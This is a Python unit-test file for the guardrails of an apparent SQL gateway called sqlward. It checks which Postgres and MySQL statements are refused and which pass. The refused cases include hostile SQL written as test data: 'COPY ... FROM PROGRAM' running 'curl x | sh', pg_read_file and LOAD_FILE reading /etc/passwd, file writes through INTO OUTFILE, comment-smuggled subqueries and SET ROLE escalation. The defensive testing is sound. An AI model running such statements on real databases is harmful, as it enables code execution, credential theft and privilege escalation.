"""Unit tests for policy.guardrails: every guardrail refuses its case and lets the safe variant
through, in both dialects; guardrails come before rules; config decoding of [guardrails.<id>]."""

from __future__ import annotations

import logging
import textwrap
from pathlib import Path
from typing import Any

import msgspec
import pytest

from sqlward.gateway.config import ConfigError, load_config
from sqlward.policy.engine import Engine
from sqlward.policy.guardrails import CATALOGUE, GuardrailConfig, compile_guardrails
from sqlward.policy.model import Identity, TargetInfo
from sqlward.policy.rules import EnvironmentPolicy, Rule

PG = "postgres"
MY = "mysql"

PROD = TargetInfo(name="orders-db", protocol="postgres", environment="production")
STAGING = TargetInfo(name="orders-staging", protocol="postgres", environment="staging")
ALICE = Identity(subject="alice@example.com", groups=("dba",))
# Everything is allowed by a rule and by the environment, unparsed statements included: only the
# guardrail under test can refuse.
ALLOW_ALL = Rule(id="allow-all", action="allow")
ENVS = {
    "production": EnvironmentPolicy(default_action="allow", allow_unparsed=True),
    "staging": EnvironmentPolicy(default_action="allow", allow_unparsed=True),
}


@pytest.fixture(autouse=True)
def _quiet_sqlglot(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.ERROR, logger="sqlglot")


def engine(gid: str, **options: Any) -> Engine:
    config = GuardrailConfig(environments=("production",), **options)
    return Engine([ALLOW_ALL], ENVS, version=1, guardrails={gid: config})


def fake_explain(sql: str) -> int | None:
    """Stands in for the upstream's EXPLAIN in unit tests (the integration tests use the real one):
    a key lookup is cheap, a range is not, "unknown" fails."""
    if "unknown" in sql:
        return None
    return 1 if "id = " in sql else 50_000


def decision(e: Engine, sql: str, dialect: str, target: TargetInfo = PROD) -> Any:
    analysis = e.analyse(sql, dialect)
    d = e.decide(analysis, ALICE, target, sql=sql)
    if d.pending:
        assert d.action == "deny"  # provisional: fails closed if the caller ignores `pending`
        d = e.decide(analysis, ALICE, target, sql=sql, estimates={i: fake_explain(sql) for i in d.pending})
        assert not d.pending
    return d


# (guardrail id, options, dialect, refused statements, safe statements)
TABLE: list[tuple[str, dict[str, Any], str, tuple[str, ...], tuple[str, ...]]] = [
    ("drop-table", {}, PG, ("DROP TABLE t", 'drop /* x */ TABLE "Orders"', "DROP TABLE IF EXISTS a, s.b CASCADE"), ("DROP VIEW v", "DROP INDEX i", "SELECT * FROM t")),
    ("drop-table", {}, MY, ("DROP TABLE t", "DROP TEMPORARY TABLE IF EXISTS shop.t", "/*! DROP TABLE t */", "SELECT 1; /* x */ DROP TABLE `t`"), ("DROP VIEW v", "SELECT * FROM t")),
    ("drop-database", {}, PG, ("DROP SCHEMA s CASCADE", "DROP DATABASE app", "drop schema if exists a, b"), ("DROP TABLE t", "CREATE SCHEMA s")),
    ("drop-database", {}, MY, ("DROP DATABASE shop", "DROP SCHEMA IF EXISTS shop"), ("CREATE DATABASE shop", "DROP TABLE t")),
    ("truncate", {}, PG, ("TRUNCATE t", "TRUNCATE TABLE a, b RESTART IDENTITY"), ("DELETE FROM t WHERE id = 1",)),
    ("truncate", {}, MY, ("TRUNCATE TABLE t", "TRUNCATE t"), ("DELETE FROM t WHERE id = 1",)),
    (
        "delete-without-where",
        {},
        PG,
        ("DELETE FROM t", "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "EXPLAIN ANALYZE DELETE FROM t", "DELETE FROM t RETURNING id"),
        ("DELETE FROM t WHERE id = 1", "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d", "UPDATE t SET a = 1"),
    ),
    ("delete-without-where", {}, MY, ("DELETE FROM t", "DELETE FROM t LIMIT 10", "delete from `shop`.`t` order by id"), ("DELETE FROM t WHERE id = 1", "DELETE a FROM a JOIN b ON a.id = b.id WHERE b.x = 1")),
    (
        "update-without-where",
        {},
        PG,
        ("UPDATE t SET a = 1", "WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM u"),
        ("UPDATE t SET a = 1 WHERE id = 2", "DELETE FROM t"),
    ),
    ("update-without-where", {}, MY, ("UPDATE t SET a = 1", "UPDATE t SET a = 1 LIMIT 5"), ("UPDATE t SET a = 1 WHERE id = 2",)),
    (
        "where-always-true",
        {},
        PG,
        (
            "DELETE FROM t WHERE 1=1",
            "UPDATE t SET a = 2 WHERE id > 0 OR TRUE",
            "DELETE FROM t WHERE 'a' = 'a'",
            "DELETE FROM t WHERE id = id",
            "WITH d AS (DELETE FROM t WHERE 2 > 1 RETURNING *) SELECT * FROM d",
            "DELETE FROM t WHERE now() > '2020-01-01'",
            "UPDATE t SET a = 1 WHERE NOT FALSE",
        ),
        ("DELETE FROM t WHERE 1=2", "DELETE FROM t WHERE 'a' = 'b'", "DELETE FROM t WHERE id = 1", "UPDATE t SET a = 1 WHERE 1=1 AND id = 5", "SELECT * FROM t WHERE 1=1"),
    ),
    (
        "where-always-true",
        {},
        MY,
        ("DELETE FROM t WHERE 1", "UPDATE t SET a = 1 WHERE 1=1", "DELETE FROM t WHERE TRUE OR id = 3", "DELETE FROM t WHERE 'x' = 'x' LIMIT 5"),
        ("DELETE FROM t WHERE 0", "DELETE FROM t WHERE id = 1", "UPDATE t SET a = 1 WHERE 1=0 OR id = 4"),
    ),
    (
        "mass-write",
        {"max_rows": 100},
        PG,
        ("DELETE FROM t WHERE created < now()", "UPDATE t SET a = 1 WHERE b > 0", "INSERT INTO t SELECT * FROM big", "DELETE FROM unknown_estimate WHERE a = 1"),
        ("DELETE FROM t WHERE id = 1", "UPDATE t SET a = 1 WHERE id = 2", "SELECT * FROM t", "INSERT INTO t VALUES (1)"),
    ),
    (
        "mass-write",
        {"max_rows": 100},
        MY,
        ("DELETE FROM t WHERE created < now()", "UPDATE t SET a = 1 WHERE b > 0", "INSERT INTO t SELECT * FROM big"),
        ("DELETE FROM t WHERE id = 1", "SELECT * FROM t", "INSERT INTO t VALUES (1)"),
    ),
    (
        "parser-mismatch",
        {},
        PG,
        ("VACUUM t", "CLUSTER t"),
        ("SELECT * FROM t", "DELETE FROM t WHERE id = 1"),
    ),
    (
        "parser-mismatch",
        {},
        MY,
        ("/*! DROP TABLE t */", "SELECT 1 /*!50000 , (SELECT pw FROM secret) */", "SELECT /*M! 1, */ 2"),
        ("SELECT /*+ MAX_EXECUTION_TIME(10) */ * FROM t", "SELECT 1 /* ordinary comment */"),
    ),
    (
        "ddl-in-protected-env",
        {},
        PG,
        ("CREATE TABLE x (a int)", "ALTER TABLE t ADD COLUMN b int", "CREATE INDEX i ON t (a)", "DROP FUNCTION f", "CREATE EXTENSION hstore"),
        ("INSERT INTO t VALUES (1)", "SELECT * FROM t", "TRUNCATE t"),
    ),
    ("ddl-in-protected-env", {}, MY, ("CREATE TABLE x (a int)", "ALTER TABLE t ADD COLUMN b int", "DROP VIEW v", "RENAME TABLE a TO b"), ("INSERT INTO t VALUES (1)",)),
    ("grant-revoke", {}, PG, ("GRANT SELECT ON t TO bob", "REVOKE ALL ON t FROM bob", "GRANT admin TO bob", "grant all privileges on schema s to public"), ("SELECT * FROM information_schema.role_table_grants",)),
    ("grant-revoke", {}, MY, ("GRANT SELECT ON db.t TO 'bob'@'%'", "REVOKE ALL ON db.* FROM bob", "GRANT r TO bob"), ("SHOW GRANTS", "SELECT 1")),
    (
        "role-and-user-management",
        {},
        PG,
        ("CREATE ROLE r", "ALTER ROLE r WITH PASSWORD 'x'", "DROP USER u", "CREATE USER u LOGIN SUPERUSER", "DROP ROLE IF EXISTS r"),
        ("CREATE TABLE roles (a int)", "SELECT * FROM pg_roles"),
    ),
    (
        "role-and-user-management",
        {},
        MY,
        ("CREATE USER 'u'@'%' IDENTIFIED BY 'p'", "ALTER USER u IDENTIFIED BY 'x'", "DROP ROLE r", "RENAME USER a TO b", "SET PASSWORD = 'x'"),
        ("SELECT CURRENT_USER()", "SELECT * FROM mysql.user"),
    ),
    (
        "identity-escalation",
        {},
        PG,
        ("SET ROLE admin", "set role to admin", "SET LOCAL ROLE x", "SET SESSION AUTHORIZATION bob", "RESET ROLE", "RESET SESSION AUTHORIZATION", "SELECT set_config('role', 'admin', false)"),
        ("SET search_path TO app", "RESET search_path", "SELECT current_user"),
    ),
    ("identity-escalation", {}, MY, ("SET ROLE admin", "SET ROLE ALL", "SET DEFAULT ROLE r TO u", "CHANGE USER"), ("SET NAMES utf8mb4", "SELECT CURRENT_ROLE()")),
    ("multi-statement", {}, PG, ("SELECT 1; SELECT 2", "SELECT 1; -- x\nDROP TABLE t", "BEGIN; DELETE FROM t WHERE id = 1; COMMIT"), ("SELECT 1", "SELECT 1;", "SELECT ';'")),
    ("multi-statement", {}, MY, ("SELECT 1; SELECT 2", "SELECT 1 /*!; DROP TABLE t */"), ("SELECT 1", "SELECT 1; -- only a comment")),
    ("multi-statement", {"max_statements": 2}, PG, ("SELECT 1; SELECT 2; SELECT 3",), ("SELECT 1; SELECT 2",)),
    ("multi-statement", {"max_statements": 2}, MY, ("SELECT 1; SELECT 2; SELECT 3",), ("SELECT 1; SELECT 2",)),
    ("unparseable", {}, PG, ("SELECT FROM WHERE (", "CREATE ROLE r", "SELECT 'unterminated"), ("SELECT 1", "DELETE FROM t WHERE id = 1")),
    ("unparseable", {}, MY, ("FLUSH TABLES", "SELECT * FROM t INTO OUTFILE '/tmp/x'", "LOAD DATA INFILE '/x' INTO TABLE t"), ("SELECT 1", "SHOW TABLES")),
    (
        "file-and-program-access",
        {},
        PG,
        (
            "COPY t TO PROGRAM 'gzip > /tmp/x'",
            "COPY t FROM PROGRAM 'curl x | sh'",
            "COPY t FROM '/etc/passwd'",
            "COPY (SELECT * FROM t) TO '/tmp/out'",
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT pg_catalog.pg_read_binary_file('x')",
            "SELECT * FROM pg_ls_dir('.')",
            "SELECT lo_import('/etc/passwd')",
            "SELECT LO_EXPORT(1, '/tmp/x')",
        ),
        ("COPY t TO STDOUT", "COPY t FROM STDIN WITH (FORMAT csv)", "SELECT upper(a) FROM t"),
    ),
    (
        "file-and-program-access",
        {},
        MY,
        (
            "LOAD DATA INFILE '/x' INTO TABLE t",
            "LOAD DATA LOCAL INFILE '/x' INTO TABLE t",
            "LOAD XML INFILE '/x' INTO TABLE t",
            "SELECT * FROM t INTO OUTFILE '/tmp/x'",
            "SELECT a INTO DUMPFILE '/tmp/x' FROM t",
            "SELECT LOAD_FILE('/etc/passwd')",
        ),
        ("SELECT a INTO @v FROM t", "SELECT upper(a) FROM t"),
    ),
    (
        "writes-disguised-as-reads",
        {},
        PG,
        (
            "SELECT * INTO n FROM t",
            "CREATE TABLE x AS SELECT * FROM t",
            "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d",
            "WITH i AS (INSERT INTO log VALUES (1) RETURNING *) SELECT 1",
            "EXPLAIN ANALYZE DELETE FROM t WHERE id = 1",
            "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 2",
            "SELECT nextval('s')",
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        ),
        ("EXPLAIN DELETE FROM t WHERE id = 1", "EXPLAIN ANALYZE SELECT * FROM t", "WITH x AS (SELECT 1) SELECT * FROM x", "CREATE TABLE x (a int)"),
    ),
    (
        "writes-disguised-as-reads",
        {},
        MY,
        ("CREATE TABLE x AS SELECT * FROM t", "CREATE TABLE x SELECT * FROM t", "EXPLAIN ANALYZE DELETE FROM t WHERE id = 1", "ANALYZE DELETE FROM t WHERE id = 1", "SELECT GET_LOCK('x', 10)"),
        ("EXPLAIN DELETE FROM t WHERE id = 1", "EXPLAIN ANALYZE SELECT * FROM t", "SELECT a INTO @v FROM t", "WITH x AS (SELECT 1) SELECT * FROM x"),
    ),
    (
        "select-without-limit",
        {"tables": ("users", "audit.*")},
        PG,
        ("SELECT * FROM users", "SELECT * FROM public.users", "SELECT * FROM audit.log", "SELECT * FROM users u JOIN orders o ON u.id = o.uid"),
        ("SELECT * FROM users LIMIT 10", "SELECT * FROM users FETCH FIRST 10 ROWS ONLY", "SELECT * FROM orders", "DELETE FROM users WHERE id = 1"),
    ),
    (
        "select-without-limit",
        {"tables": ("users", "audit.*")},
        MY,
        ("SELECT * FROM users", "SELECT * FROM shop.users", "SELECT a FROM users UNION SELECT a FROM orders"),
        ("SELECT * FROM users LIMIT 10", "SELECT a FROM users UNION SELECT a FROM orders LIMIT 5", "SELECT * FROM orders"),
    ),
]


def _cases(refused: bool) -> list[Any]:
    out = []
    for gid, options, dialect, bad, good in TABLE:
        for sql in bad if refused else good:
            out.append(pytest.param(gid, options, dialect, sql, id=f"{gid}-{dialect}-{sql[:40]}"))
    return out


@pytest.mark.parametrize(("gid", "options", "dialect", "sql"), _cases(refused=True))
def test_guardrail_refuses_its_case(gid: str, options: dict[str, Any], dialect: str, sql: str) -> None:
    d = decision(engine(gid, **options), sql, dialect)
    assert d.action == "deny" and d.rule_id == gid, d
    assert f'guardrail "{gid}"' in d.message and d.message.split(": ", 1)[1], d.message


@pytest.mark.parametrize(("gid", "options", "dialect", "sql"), _cases(refused=False))
def test_guardrail_lets_the_safe_variant_through(gid: str, options: dict[str, Any], dialect: str, sql: str) -> None:
    d = decision(engine(gid, **options), sql, dialect)
    assert d.action == "allow", d


@pytest.mark.parametrize(("gid", "options", "dialect", "sql"), _cases(refused=True))
def test_guardrail_only_in_its_environments(gid: str, options: dict[str, Any], dialect: str, sql: str) -> None:
    d = decision(engine(gid, **options), sql, dialect, target=STAGING)
    assert d.rule_id != gid, d


def test_every_guardrail_is_tested_in_both_dialects() -> None:
    covered = {(gid, dialect) for gid, _, dialect, bad, good in TABLE if bad and good}
    assert covered == {(gid, d) for gid in CATALOGUE for d in (PG, MY)}
    assert all(g.sentence.endswith(".") for g in CATALOGUE.values())


def test_guardrails_are_off_by_default() -> None:
    e = Engine([ALLOW_ALL], ENVS, version=1)
    assert e.guardrails == ()
    assert decision(e, "DROP TABLE t", PG).action == "allow"


def test_empty_environments_means_every_environment() -> None:
    e = Engine([ALLOW_ALL], ENVS, version=1, guardrails={"truncate": GuardrailConfig()})
    assert decision(e, "TRUNCATE t", PG, target=STAGING).rule_id == "truncate"
    other = TargetInfo(name="x", protocol="mysql", environment="somewhere-else")
    assert decision(e, "TRUNCATE t", MY, target=other).rule_id == "truncate"


def test_guardrail_comes_before_rules_and_names_itself() -> None:
    rules = [Rule(id="dba-may-drop", action="allow", operations=("drop",), groups=("dba",)), ALLOW_ALL]
    e = Engine(rules, ENVS, version=1, guardrails={"drop-table": GuardrailConfig(environments=("production",))})
    d = decision(e, "DROP TABLE orders", PG)
    assert d == msgspec.structs.replace(d, action="deny", rule_id="drop-table", statement_index=0)
    assert d.message == 'statement refused by guardrail "drop-table": DROP TABLE destroys a table and its data'
    assert decision(e, "DROP TABLE orders", PG, target=STAGING).rule_id == "dba-may-drop"


def test_second_statement_refusal_says_which() -> None:
    e = engine("truncate")
    d = decision(e, "SELECT 1; TRUNCATE t", PG)
    assert d.rule_id == "truncate" and d.statement_index == 1 and d.message.startswith("statement 2 of 2 refused")


def test_multi_statement_refuses_the_request() -> None:
    d = decision(engine("multi-statement"), "SELECT 1; SELECT 2", MY)
    assert d.action == "deny" and d.statement_index is None
    assert d.message == 'request refused by guardrail "multi-statement": the request holds 2 statements; at most 1 allowed per request'


def test_review_action_needs_approval_and_an_allow_rule_does_not_lift_it() -> None:
    e = Engine([ALLOW_ALL], ENVS, version=1, guardrails={"truncate": GuardrailConfig(action="review")})
    d = decision(e, "TRUNCATE t", PG)
    assert d.action == "review" and d.rule_id == "truncate"
    assert d.message == 'needs approval (guardrail "truncate"): TRUNCATE removes every row of a table'
    assert decision(e, "SELECT 1", PG).action == "allow"


def test_deny_rule_beats_a_guardrail_review() -> None:
    rules = [Rule(id="no-truncate", action="deny", operations=("truncate",)), ALLOW_ALL]
    e = Engine(rules, ENVS, version=1, guardrails={"truncate": GuardrailConfig(action="review")})
    assert decision(e, "TRUNCATE t", PG).rule_id == "no-truncate"


def test_deny_guardrail_beats_an_earlier_review() -> None:
    guards = {"truncate": GuardrailConfig(action="review"), "drop-table": GuardrailConfig()}
    e = Engine([ALLOW_ALL], ENVS, version=1, guardrails=guards)
    d = decision(e, "TRUNCATE t; DROP TABLE t", PG)
    assert d.action == "deny" and d.rule_id == "drop-table"


def test_guardrail_refuses_unparsed_statement_before_the_unparseable_rule() -> None:
    envs = {"production": EnvironmentPolicy(default_action="deny")}
    e = Engine([ALLOW_ALL], envs, version=1, guardrails={"role-and-user-management": GuardrailConfig()})
    assert decision(e, "CREATE ROLE r", PG).rule_id == "role-and-user-management"
    assert decision(e, "FLUSH TABLES", MY).rule_id == "unparseable"


def test_decision_with_guardrails_is_cached() -> None:
    e = engine("drop-table")
    first = decision(e, "DROP TABLE a", PG)
    assert decision(e, "DROP   TABLE\n a", PG) is first


def test_compile_rejects_unknown_ids_and_options() -> None:
    with pytest.raises(ValueError, match="unknown guardrail"):
        compile_guardrails({"drop-everything": GuardrailConfig()})
    with pytest.raises(ValueError, match="takes no option 'tables'"):
        compile_guardrails({"drop-table": GuardrailConfig(tables=("t",))})
    with pytest.raises(ValueError, match="at least one table"):
        compile_guardrails({"select-without-limit": GuardrailConfig()})
    with pytest.raises(ValueError, match=">= 1"):
        compile_guardrails({"multi-statement": GuardrailConfig(max_statements=0)})
    active = compile_guardrails({"truncate": GuardrailConfig(), "drop-table": GuardrailConfig()})
    assert [g.id for g in active] == ["drop-table", "truncate"]  # catalogue order


# ------------------------------------------------------------------------------------ config

MINIMAL = """
[gateway]
name = "dev"

[[listeners]]
protocol = "postgres"
listen = "127.0.0.1:6432"

[[targets]]
name = "app"
protocol = "postgres"
environment = "production"
dsn = "postgresql://svc@127.0.0.1:5432/app"
"""


def _write(tmp_path: Path, extra: str) -> str:
    path = tmp_path / "sqlward.toml"
    path.write_text(textwrap.dedent(MINIMAL) + textwrap.dedent(extra))
    return str(path)


def _error(tmp_path: Path, extra: str) -> str:
    path = _write(tmp_path, extra)
    with pytest.raises(ConfigError) as info:
        load_config(path, env={})
    return str(info.value)


def test_config_decodes_guardrail_tables(tmp_path: Path) -> None:
    config = load_config(
        _write(
            tmp_path,
            """
            [guardrails.drop-table]
            environments = ["production"]

            [guardrails.select-without-limit]
            action = "review"
            tables = ["users"]

            [guardrails.multi-statement]
            max_statements = 3
            """,
        ),
        env={},
    )
    assert config.guardrails == {
        "drop-table": GuardrailConfig(environments=("production",)),
        "select-without-limit": GuardrailConfig(action="review", tables=("users",)),
        "multi-statement": GuardrailConfig(max_statements=3),
    }
    assert load_config(_write(tmp_path, ""), env={}).guardrails == {}


def test_config_guardrail_errors_name_the_guardrail(tmp_path: Path) -> None:
    assert "$.guardrails.drop-tables: unknown guardrail (expected one of: drop-table," in _error(tmp_path, "[guardrails.drop-tables]\n")
    assert "$.guardrails.drop-table.action: Invalid enum value 'block'" in _error(tmp_path, '[guardrails.drop-table]\naction = "block"\n')
    assert "$.guardrails.drop-table.max_statements: guardrail 'drop-table' takes no option" in _error(
        tmp_path, "[guardrails.drop-table]\nmax_statements = 2\n"
    )
    assert "$.guardrails.select-without-limit.tables: expected at least one table glob" in _error(tmp_path, "[guardrails.select-without-limit]\n")
    err = _error(tmp_path, "[guardrails.truncate]\nenvironment = []\n")
    assert "$.guardrails.truncate.environment: unknown field" in err


def test_config_guardrails_must_be_a_table(tmp_path: Path) -> None:
    path = tmp_path / "sqlward.toml"
    path.write_text('guardrails = ["drop-table"]\n' + textwrap.dedent(MINIMAL))
    with pytest.raises(ConfigError) as info:
        load_config(str(path), env={})
    assert "$.guardrails: Expected a table" in str(info.value)


def test_gatekeeper_passes_guardrails_to_the_engine(tmp_path: Path) -> None:
    from sqlward.gateway.gatekeeper import Gatekeeper

    from tests.support.auditsink import ListSink

    config = load_config(_write(tmp_path, '[guardrails.drop-table]\nenvironments = ["production"]\n'), env={})
    gatekeeper = Gatekeeper.from_config(config, ListSink())
    try:
        assert [g.id for g in gatekeeper._engine.guardrails] == ["drop-table"]  # type: ignore[attr-defined]
    finally:
        gatekeeper.close()
